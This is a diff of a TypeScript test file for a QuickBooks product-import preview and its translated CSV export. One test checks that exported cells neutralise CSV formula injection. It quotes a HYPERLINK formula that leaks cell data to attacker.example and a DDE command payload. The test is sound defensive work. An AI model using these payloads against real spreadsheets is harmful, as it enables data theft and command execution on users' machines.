@@ -3,19 +3,12 @@ import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import { createI18n } from "~/i18n/instance";
 import { resources } from "~/i18n/resources";
-import { indexExisting, planImport } from "./plan/plan";
+import { indexExisting, type ExistingProduct } from "./plan/decide";
+import { planImport } from "./plan/plan";
 import { understandFile } from "./pipeline";
-import {
-  AI_STATUS_KEYS,
-  AI_STATUSES,
-  DB_STATUS_KEYS,
-  DB_STATUSES,
-  FINAL_STATUS_KEYS,
-  FINAL_STATUSES,
-  PLANNED_ACTION_KEYS,
-  resultRowsBeforeWrite,
-  resultsCsv,
-} from "./results";
+import { asPlanned, resultsCsv, type ImportRowResult } from "./results";
+import { ACTION_KEYS, AI_STATUS_KEYS, DB_STATUS_KEYS, FINAL_STATUS_KEYS, FINAL_STATUSES } from "./statuses";
+import type { UnderstoodRow } from "./types";
 
 const fixture = (name: string) => readFileSync(`tests/fixtures/quickbooks/${name}`);
 
@@ -31,6 +24,22 @@ function lookup(lang: "en" | "es", key: string): unknown {
     .reduce<unknown>((node, part) => (node as Record<string, unknown> | undefined)?.[part], resources[lang].import);
 }
 
+const product = (over: Partial<ExistingProduct> & { id: string }): ExistingProduct => ({
+  quickbooksId: null,
+  sku: null,
+  priceCents: null,
+  active: true,
+  quantity: null,
+  inList: true,
+  archived: false,
+  name: "Product",
+  ...over,
+});
+
+/** The rows as the screen's preview shows them before anything is written. */
+const preview = (rows: UnderstoodRow[], existing: ExistingProduct[] = []) =>
+  planImport(rows, indexExisting(existing)).results.map(asPlanned);
+
 const translator = (lang: "en" | "es") => {
   const t = createI18n(lang).getFixedT(lang, "import") as unknown as (
     key: string,
@@ -40,11 +49,7 @@ const translator = (lang: "en" | "es") => {
 };
 
 describe("section 4's statuses", () => {
-  it("has every AI, database and final status of the specification, each worded in both languages", () => {
-    expect([...AI_STATUSES].sort()).toEqual(
-      ["pending", "success", "error", "skipped_not_a_product", "skipped_known_non_product_code"].sort(),
-    );
-    expect([...DB_STATUSES].sort()).toEqual(["pending", "success", "error", "skipped"].sort());
+  it("has every final status of the specification, each worded once in both languages", () => {
     expect([...FINAL_STATUSES].sort()).toEqual(
       [
         "success",
@@ -65,7 +70,7 @@ describe("section 4's statuses", () => {
       ...Object.values(AI_STATUS_KEYS),
       ...Object.values(DB_STATUS_KEYS),
       ...Object.values(FINAL_STATUS_KEYS),
-      ...Object.values(PLANNED_ACTION_KEYS),
+      ...Object.values(ACTION_KEYS),
     ];
     for (const key of keys) {
       expect(typeof lookup("en", key), key).toBe("string");
@@ -73,18 +78,20 @@ describe("section 4's statuses", () => {
     }
     // Each final status reads differently from the others.
     expect(new Set(Object.values(FINAL_STATUS_KEYS).map((k) => lookup("en", k))).size).toBe(12);
+    expect(new Set(Object.values(ACTION_KEYS).map((k) => lookup("es", k))).size).toBe(6);
     expect(new Set(Object.values(FINAL_STATUS_KEYS).map((k) => lookup("es", k))).size).toBe(12);
   });
 });
 
-describe("resultRowsBeforeWrite", () => {
+describe("the preview's results (asPlanned)", () => {
   it("gives every row of qbo_small.csv its AI status, pending or skipped database statuses and final status", async () => {
     const rows = await understood("qbo_small.csv");
-    const results = resultRowsBeforeWrite(rows, planImport(rows), "en");
+    const results = preview(rows);
     expect(results).toHaveLength(69);
     const row = (n: number) => results.find((r) => r.row === n)!;
-    expect(row(1)).toEqual({
+    expect(row(1)).toMatchObject({
       row: 1,
+      batch: 1,
       item: "AVO48",
       name: "Hass Avocado",
       productId: null,
@@ -92,32 +99,39 @@ describe("resultRowsBeforeWrite", () => {
       dbProductStatus: "pending",
       dbPriceStatus: "pending",
       finalStatus: "pending",
-      messages: [],
-      planned: "create",
+      action: "created",
+      namedBy: "engine",
+      messages: [
+        { code: "product_created", severity: "info" },
+        { code: "price_set", severity: "info", params: { price: 5400 } },
+      ],
     });
     // The inactive item is written (as inactive) and says so.
+    expect(row(7).messages.map((m) => m.code)).toContain("inactive_item");
     expect(row(7)).toMatchObject({
       item: "MANGO KENT 8 (deleted)",
       aiStatus: "success",
       finalStatus: "pending",
       dbProductStatus: "pending",
-      messages: [{ key: "engine.messages.inactiveItem", values: {} }],
+      action: "created",
     });
     // The first TOMATILLO loses to the later row: nothing of it is written, and its message says why.
     expect(row(19)).toMatchObject({
       item: "TOMATILLO",
-      planned: "skip",
+      action: "duplicate",
       dbProductStatus: "skipped",
       dbPriceStatus: "skipped",
-      messages: [{ key: "engine.messages.duplicateSuperseded", values: { row: 32 } }],
+      messages: [{ code: "duplicate_superseded", severity: "warning", params: { row: 32 } }],
     });
-    expect(row(32).messages).toEqual([
-      { key: "engine.messages.duplicateItem", values: { item: "TOMATILLO", firstRow: 19 } },
-    ]);
+    expect(row(32).messages).toContainEqual({
+      code: "duplicate_item",
+      severity: "warning",
+      params: { item: "TOMATILLO", firstRow: 19 },
+    });
     const skipped = results.filter((r) => r.finalStatus.startsWith("skipped_"));
     expect(skipped).toHaveLength(20);
     for (const r of skipped) {
-      expect(r).toMatchObject({ dbProductStatus: "skipped", dbPriceStatus: "skipped", planned: "skip", name: null });
+      expect(r).toMatchObject({ dbProductStatus: "skipped", dbPriceStatus: "skipped", action: "skipped", name: null });
     }
     expect(new Set(skipped.map((r) => r.aiStatus))).toEqual(
       new Set(["skipped_not_a_product", "skipped_known_non_product_code"]),
@@ -126,42 +140,51 @@ describe("resultRowsBeforeWrite", () => {
 
   it("carries the matched product's id, and skips the price of a row without one", async () => {
     const rows = await understood("qbo_small.csv");
-    const existing = indexExisting([{ id: "p-avo48", quickbooksId: "AVO48", sku: "AVO-48", priceCents: 5400 }]);
-    const results = resultRowsBeforeWrite(rows, planImport(rows, existing), "en");
-    expect(results[0]).toMatchObject({ productId: "p-avo48", planned: "unchanged" });
+    const existing = [
+      product({ id: "p-avo48", quickbooksId: "AVO48", sku: "AVO-48", priceCents: 5400, quantity: 120 }),
+    ];
+    const results = preview(rows, existing);
+    expect(results[0]).toMatchObject({ productId: "p-avo48", action: "unchanged" });
     const noPrice = { ...rows[1], priceCents: null };
-    const [second] = resultRowsBeforeWrite([noPrice], planImport([noPrice]), "en");
+    const [second] = preview([noPrice]);
     expect(second).toMatchObject({ dbProductStatus: "pending", dbPriceStatus: "skipped" });
   });
 
   it("shows a row the writer would refuse with the status and the reason it will get", async () => {
     const rows = await understood("qbo_small.csv");
-    const existing = indexExisting([
-      { id: "p-avo48", quickbooksId: "AVO48", sku: "AVO-48", priceCents: 100, archived: true, name: "Avocados" },
-    ]);
-    const [first] = resultRowsBeforeWrite(rows, planImport(rows, existing), "en");
+    const existing = [
+      product({
+        id: "p-avo48",
+        quickbooksId: "AVO48",
+        sku: "AVO-48",
+        priceCents: 100,
+        archived: true,
+        name: "Avocados",
+      }),
+    ];
+    const [first] = preview(rows, existing);
     expect(first).toMatchObject({
       productId: "p-avo48",
-      planned: "error",
+      action: "error",
       finalStatus: "error_db_price",
       dbProductStatus: "skipped",
       dbPriceStatus: "error",
     });
-    expect(first.messages.at(-1)?.key).toBe("run.messages.archivedPrice");
+    expect(first.messages[0]).toMatchObject({ code: "archived_price", params: { product: "Avocados" } });
   });
 });
 
 describe("resultsCsv", () => {
   it("neutralises the formulas of csv_injection.csv in every cell, in both languages", async () => {
     const rows = await understood("bad/csv_injection.csv");
-    const results = resultRowsBeforeWrite(rows, planImport(rows), "en");
+    const results = preview(rows);
     for (const lang of ["en", "es"] as const) {
-      const text = resultsCsv(results, translator(lang));
+      const text = resultsCsv(results, translator(lang), lang);
       expect(text.startsWith("\uFEFF")).toBe(true);
       const parsed = Papa.parse<string[]>(text.slice(1).trimEnd(), { newline: "\r\n" }).data;
       expect(parsed).toHaveLength(results.length + 1);
       for (const line of parsed) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
-      const items = parsed.slice(1).map((line) => line[1]);
+      const items = parsed.slice(1).map((line) => line[2]);
       expect(items).toContain(`'=HYPERLINK("http://attacker.example/?d="&A1,"Click for price list")`);
       expect(items).toContain("'=cmd|' /C notepad'!'A1'");
     }
@@ -169,58 +192,72 @@ describe("resultsCsv", () => {
 
   it("writes translated headers, statuses and messages", async () => {
     const rows = await understood("qbo_small.csv");
-    const results = resultRowsBeforeWrite(rows, planImport(rows), "en");
+    const results = preview(rows);
     const [header, first, , , , , , seventh] = Papa.parse<string[]>(
-      resultsCsv(results, translator("es")).slice(1).trimEnd(),
+      resultsCsv(results, translator("es"), "es").slice(1).trimEnd(),
       { newline: "\r\n" },
     ).data;
     expect(header).toEqual([
       "Fila",
+      "Línea",
       "Artículo de QuickBooks",
-      "Nombre procesado por IA",
+      "Nombre (inglés)",
+      "Nombre (español)",
+      "Categoría",
+      "Valor del empaque",
+      "Unidad del empaque",
+      "Precio",
+      "SKU",
+      "Cantidad disponible",
       "ID del producto",
+      "Acción",
       "Estado de IA",
       "Producto en la base de datos",
       "Precio en la base de datos",
-      "Plan",
       "Estado final",
       "Mensaje",
     ]);
-    expect(first).toEqual([
-      "1",
-      "AVO48",
-      "Hass Avocado",
-      "",
+    expect(first.slice(0, 3)).toEqual(["1", "2", "AVO48"]);
+    expect(first.slice(8, 9)).toEqual(["54.00"]);
+    expect(first.slice(12)).toEqual([
+      "Nuevo",
       "Procesado",
       "Pendiente",
       "Pendiente",
-      "Nuevo",
       "Pendiente",
-      "",
+      expect.stringContaining("Producto nuevo"),
     ]);
-    expect(seventh[9]).toBe("Inactivo en QuickBooks: se guarda como producto inactivo.");
+    expect(seventh[17]).toContain("Inactivo en QuickBooks: se guarda como producto inactivo.");
   });
 
-  it("leaves the plan column out of results that have none", () => {
-    const text = resultsCsv(
-      [
-        {
-          row: 1,
-          item: "AVO48",
-          name: "Hass Avocado",
-          productId: "p1",
-          aiStatus: "success",
-          dbProductStatus: "success",
-          dbPriceStatus: "error",
-          finalStatus: "error_db_price",
-          messages: [],
-        },
-      ],
-      translator("en"),
-    );
-    expect(text).toBe(
-      "\uFEFFRow,QuickBooks item,AI-processed name,Product ID,AI status,Product in database,Price in database,Final status,Message\r\n" +
-        "1,AVO48,Hass Avocado,p1,Processed,Saved,Error,Error saving the price,\r\n",
+  it("words a run's stored row like the preview's", () => {
+    const stored: ImportRowResult = {
+      row: 1,
+      batch: 1,
+      line: 2,
+      item: "AVO48",
+      quickbooksId: "AVO48",
+      name: "Hass Avocado",
+      nameEs: "Aguacate Hass",
+      category: "fruits",
+      packValue: 48,
+      packUnit: "ct",
+      unit: "case",
+      priceCents: 5400,
+      sku: "AVO-48",
+      quantity: null,
+      productId: "p1",
+      action: "error",
+      namedBy: "engine",
+      aiStatus: "success",
+      dbProductStatus: "skipped",
+      dbPriceStatus: "error",
+      finalStatus: "error_db_price",
+      messages: [],
+    };
+    expect(resultsCsv([stored], translator("en"), "en")).toBe(
+      "\uFEFFRow,Line,QuickBooks item,Name (English),Name (Spanish),Category,Pack value,Pack unit,Price,SKU,Quantity on hand,Product ID,Action,AI status,Product in database,Price in database,Final status,Message\r\n" +
+        "1,2,AVO48,Hass Avocado,Aguacate Hass,fruits,48,ct,54.00,AVO-48,,p1,Error,Processed,Skipped,Error,Price not saved,\r\n",
     );
   });
 });
